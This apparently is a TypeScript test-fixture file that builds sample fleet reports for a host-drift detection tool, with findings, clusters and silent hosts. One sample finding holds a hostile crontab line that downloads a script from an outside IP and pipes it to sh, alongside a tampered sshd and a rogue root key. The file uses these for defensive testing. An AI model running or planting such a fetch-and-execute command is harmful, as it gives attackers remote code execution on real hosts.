import type { Report, ReportHost } from '../../src/report/report.ts'
import { cluster, finding, host, report, row } from './reports.ts'

const name = (at: number): string => `web-${String(at).padStart(2, '0')}.checkout.internal`

function fleet(size: number, more: (at: number) => Partial<ReportHost> = () => ({})): ReportHost[] {
  return Array.from({ length: size }, (_, at) =>
    host(`i-0a1b2c3d4e5f${String(1000 + at)}`, { name: name(at), ...more(at) })
  )
}

const hostId = (at: number): string => `i-0a1b2c3d4e5f${String(1000 + at)}`

/** Four findings on seven hosts, one silent host and one partial. */
export function drifted(): Report {
  const hosts = fleet(64, at => {
    if (at === 40)
      return {
        status: 'silent',
        reason: 'SSM: DeliveryTimedOut. The agent did not pick up the command.',
        code: 'delivery-timed-out',
        cluster: null
      }
    if (at === 41)
      return {
        status: 'partial',
        reason: 'osquery is not installed: /usr/bin/osqueryi was not found.',
        code: 'no-osquery',
        cluster: null
      }
    return { cluster: at < 48 ? 'c1' : 'c2' }
  })
  const everywhere = { cluster: [5, 46], fleet: [5, 62] } as const
  const findings = [
    finding('fd-3b9aca0712', {
      severity: 'critical',
      surprise: 41.2,
      hosts: [3, 7, 12, 19, 33].map(hostId),
      attack: ['T1547.006', 'T1053.003'],
      explanation:
        'None of the other 57 hosts has this row of kernel_modules, and it is not in the baseline.',
      rows: [
        row(
          'kernel_modules',
          { name: 'nf_conntrack_helper2', used_by: '-', status: 'Live' },
          { prevalence: everywhere }
        ),
        row(
          'crontab',
          { path: '/etc/cron.d/.sysupd', command: 'curl -fsSL http://198.51.100.7/u.sh | sh -s -- --quiet' },
          { prevalence: everywhere }
        ),
        row(
          'file_hashes',
          {
            path: '/usr/sbin/sshd',
            mode: '0755',
            sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
          },
          {
            kind: 'changed',
            expected: {
              path: '/usr/sbin/sshd',
              mode: '0755',
              sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae'
            },
            baseline: 'known',
            prevalence: everywhere
          }
        )
      ]
    }),
    finding('fd-88d1f00a51', {
      severity: 'high',
      surprise: 23.1,
      hosts: [hostId(21)],
      attack: ['T1098.004'],
      explanation: '1 of 62 hosts has this authorized key of root, and it is not in the baseline.',
      rows: [
        row('authorized_keys', {
          username: 'root',
          key: '[redacted: ssh key SHA256:uNiVztksCsDhcc0u9e8BrwQb4c7g9T0P]',
          key_file: '/root/.ssh/authorized_keys'
        })
      ]
    }),
    finding('fd-0c4d2e9b77', {
      severity: 'high',
      verdict: 'broken-control',
      surprise: 17.4,
      hosts: [hostId(52)],
      cluster: 'c2',
      attack: ['T1562'],
      explanation: 'auditd runs on 61 of 62 hosts, but not on this one.',
      rows: [
        row(
          'security_services',
          { name: 'auditd', state: 'running' },
          { kind: 'missing', baseline: 'missing', prevalence: { cluster: [15, 16], fleet: [61, 62] } }
        )
      ]
    }),
    finding('fd-5e5e5e0001', {
      severity: 'medium',
      verdict: 'rollout',
      surprise: 0,
      hosts: Array.from({ length: 16 }, (_, at) => hostId(48 + at)),
      cluster: 'c2',
      explanation:
        'New on all 16 hosts of this cluster, like a deployment. If you made it, update the baseline.',
      rows: [
        row(
          'listening_ports',
          { protocol: '6', address: '::', port: '9100', path: '/usr/local/bin/node_exporter' },
          { prevalence: { cluster: [16, 16], fleet: [16, 62] } }
        )
      ]
    }),
    finding('fd-accepted01', {
      severity: 'low',
      verdict: 'variation',
      hosts: [hostId(2)],
      acceptedBy: 'load test until 2026-12-31 (@acme/perf)',
      rows: [row('processes', { path: '/opt/debug/heapdump' })]
    }),
    finding('fd-silent-001', {
      kind: 'silent',
      verdict: null,
      severity: 'medium',
      surprise: 0,
      hosts: [hostId(40)],
      cluster: null,
      explanation: 'One host did not answer.'
    }),
    finding('fd-partial-01', {
      kind: 'partial',
      verdict: null,
      severity: 'low',
      surprise: 0,
      hosts: [hostId(41)],
      cluster: null,
      explanation: 'One host answered only some queries.'
    })
  ]
  const clusters = [
    cluster(
      'c1',
      Array.from({ length: 46 }, (_, at) => hostId(at)),
      {
        label: 'Ubuntu 22.04',
        distinguishedBy: [{ query: 'packages', row: { name: 'openssl', version: '3.0.2' } }]
      }
    ),
    cluster(
      'c2',
      Array.from({ length: 16 }, (_, at) => hostId(48 + at)),
      {
        label: 'Ubuntu 24.04',
        distinguishedBy: [
          { query: 'packages', row: { name: 'openssl', version: '3.0.13' } },
          { query: 'packages', row: { name: 'systemd', version: '255' } }
        ]
      }
    )
  ]
  return report(hosts, findings, {
    clusters,
    foldedRows: 1234,
    notices: [
      'The pack linux has changed since the baseline was made. Run mode baseline to learn the new rows.'
    ]
  })
}

/** Every host assessed, nothing found. */
export function healthy(): Report {
  const hosts = fleet(62)
  return report(hosts, [], {
    clusters: [
      cluster(
        'c1',
        hosts.map(host => host.id)
      )
    ],
    foldedRows: 118
  })
}

/** Nothing found, and many hosts silent. */
export function incomplete(): Report {
  const hosts = fleet(62, at =>
    at % 4 === 0 ? { status: 'silent', reason: 'The agent is offline (ConnectionLost).', cluster: null } : {}
  )
  return report(hosts, [], { expected: 64, foldedRows: 3 })
}

/** 300 findings on 2,000 hosts, with long rows. */
export function enormous(): Report {
  const hosts = fleet(2_000, at => (at % 50 === 0 ? { status: 'silent', reason: `Reason ${at}.` } : {}))
  const findings = Array.from({ length: 300 }, (_, at) =>
    finding(`fd-${at}`, {
      severity: at < 20 ? 'critical' : at < 100 ? 'high' : 'medium',
      hosts: Array.from({ length: 1 + ((at * 7) % 60) }, (_, step) =>
        hostId((at * 13 + step * 31) % 2_000)
      ).sort(),
      explanation: `Cause ${at} of many.`,
      attack: ['T1059'],
      rows: Array.from({ length: 1 + ((at * 11) % 90) }, (_, step) =>
        row(`query_${step % 9}`, { path: `/opt/${at}/${step}`, cmdline: `${'x'.repeat(300)} --step ${step}` })
      )
    })
  )
  return report(hosts, findings, {
    clusters: [
      cluster(
        'c1',
        hosts.map(host => host.id)
      )
    ],
    foldedRows: 99_999
  })
}
